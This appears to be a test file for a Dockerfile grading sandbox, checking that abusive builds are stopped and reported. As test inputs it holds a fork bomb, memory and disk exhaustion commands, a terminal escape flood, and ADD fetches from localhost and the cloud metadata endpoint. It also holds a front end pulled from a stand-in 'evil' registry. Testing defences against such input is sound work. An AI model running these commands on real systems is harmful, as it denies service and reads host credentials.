/** Threat: a Dockerfile that uses up the grader, or reaches for what it may not have. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LabInput } from '#lab/schema.ts';
import type { CheckResult } from '#protocol/report.ts';
import { checkOf, GradingBench } from '../../helpers/grading.ts';

let bench: GradingBench;
beforeAll(async () => {
	bench = await GradingBench.open();
});
afterAll(() => bench[Symbol.asyncDispose]());

const mebibyte = 1024 * 1024;

/** Small limits: what they hold is the same, and is there sooner. */
const limits: LabInput['limits'] = {
	buildSeconds: 60,
	stepMemoryBytes: 64 * mebibyte,
	stepPids: 40,
	stepFileBytes: 16 * mebibyte,
	logBytes: 64 * 1024,
};

const onlyBuilds: Partial<LabInput> = { checks: [{ kind: 'builds', image: 'after', points: 1 }] };

/** Builds on busybox; the number makes each step new to the cache. */
async function buildCheck(instructions: string, over: LabInput['limits'] = {}): Promise<CheckResult> {
	const dockerfile = `FROM busybox\nRUN echo ${Math.random()}\n${instructions}\n`;
	const report = await bench.grade({ Dockerfile: dockerfile }, { ...onlyBuilds, limits: { ...limits, ...over } });
	expect(report.status).toBe('graded');
	expect(report.score).toBe(0);
	return checkOf(report, 'after-builds');
}

describe('a build that uses too much', () => {
	it('prints without an end', async () => {
		const check = await buildCheck('RUN yes "\u001b]0;owned\u0007"');
		expect(check.actual).toContain('log of 64 KiB');
		expect(check.hint).toContain('prints without an end');
		expect(JSON.stringify(check)).not.toContain('\\u001b');
	});

	it('sleeps for ever', async () => {
		const check = await buildCheck('RUN echo before; sleep 1000000', { buildSeconds: 5 });
		expect(check.actual).toContain('build time of 5 s');
		expect(check.hint).not.toBe('');
	});

	it('is a fork bomb', async () => {
		const check = await buildCheck('RUN b() { b | b & }; b; sleep 1000000', { buildSeconds: 5 });
		expect(check.actual).toMatch(/40 processes for all steps together|build time of 5 s/);
		expect(check.hint).not.toBe('');
	});

	it('wants 12 GB of memory', async () => {
		const check = await buildCheck('RUN dd if=/dev/zero of=/dev/null bs=12G count=1');
		expect(check.actual).toContain('memory of 64 MiB for all steps together');
		expect(check.hint).toContain('less memory');
	});

	it('writes a file of 12 GB', async () => {
		const check = await buildCheck('RUN dd if=/dev/zero of=/huge bs=1M count=12000');
		expect(check.actual).toContain('file size of 16 MiB in a step');
	});

	it('makes an image that is too large', async () => {
		const check = await buildCheck('RUN for n in 1 2 3 4; do dd if=/dev/zero of=/part$n bs=1M count=8; done', {
			imageBytes: 16 * mebibyte,
		});
		expect(check.actual).toContain('image size of 16 MiB');
	});
});

describe('a build that reaches out', () => {
	it('takes an unknown base', async () => {
		const report = await bench.grade({ Dockerfile: 'FROM busybux\n' }, onlyBuilds);
		expect(checkOf(report, 'after-builds')).toMatchObject({
			status: 'fail',
			line: 1,
			actual: expect.stringContaining('starts from the image busybux, which this lab does not offer'),
			hint: expect.stringContaining('Did you mean busybox?'),
		});
	});

	it.each([
		['ADD http://127.0.0.1:1/secret /secret', 'adds http://127.0.0.1:1/secret'],
		['ADD http://169.254.169.254/latest/meta-data /meta', 'adds http://169.254.169.254/latest/meta-data'],
		['ADD https://github.com/moby/moby.git /moby', 'a Git repository'],
		['COPY --from=registry.example/x:1 / /', 'copies from the image registry.example/x:1'],
		['RUN --mount=type=bind,from=nginx,target=/n true', 'mounts the image nginx'],
		['ONBUILD RUN true\nFROM capitals-after', 'starts from the image capitals-after'],
	])('%s', async (instruction, expected) => {
		const check = await buildCheck(instruction);
		expect(check.actual).toContain(expected);
		expect(check.hint).not.toBe('');
	});

	it('starts from an image of somebody else on the same engine', async () => {
		const tag = `stagecraft-test/secret:${Math.random().toString().slice(2)}`;
		await bench.engine.images.tag('busybox', tag);
		try {
			const report = await bench.grade({ Dockerfile: `FROM ${tag}\n` }, onlyBuilds);
			expect(checkOf(report, 'after-builds').actual).toContain('which this lab does not offer');
		} finally {
			await bench.engine.images.remove(tag);
		}
	});

	it('asks for a front end of its own, and gets the engine’s', async () => {
		const report = await bench.grade({
			Dockerfile:
				'# syntax=registry.example/evil:1\nFROM busybox\nCOPY main.sh /main.sh\nENTRYPOINT ["/bin/sh", "/main.sh"]\n',
		});
		expect(report.score).toBe(report.maxScore);
		expect(report.notes[0]).toContain('# syntax=registry.example/evil:1) was ignored');
	});

	it('puts our labels on its image, and is cleaned up all the same', async () => {
		// Images of the same second come in any order.
		const imageIds = async () => (await bench.engine.images.list({})).map(({ id }) => id).sort();
		const before = await imageIds();
		const labels = 'LABEL io.stagecraft.role=base io.stagecraft.owner=other io.stagecraft.job=other';
		const Dockerfile = `FROM busybox\nCOPY main.sh /main.sh\n${labels}\nENTRYPOINT ["/bin/sh", "/main.sh"]\n`;
		const report = await bench.grade({ Dockerfile });
		expect(report.score).toBe(report.maxScore);
		expect(await imageIds()).toEqual(before);
	});

	it('leaves nothing, and the grader goes on', async () => {
		const report = await bench.grade({});
		expect(report.score).toBe(report.maxScore);
		expect(await bench.leftovers()).toEqual([]);
	});
});
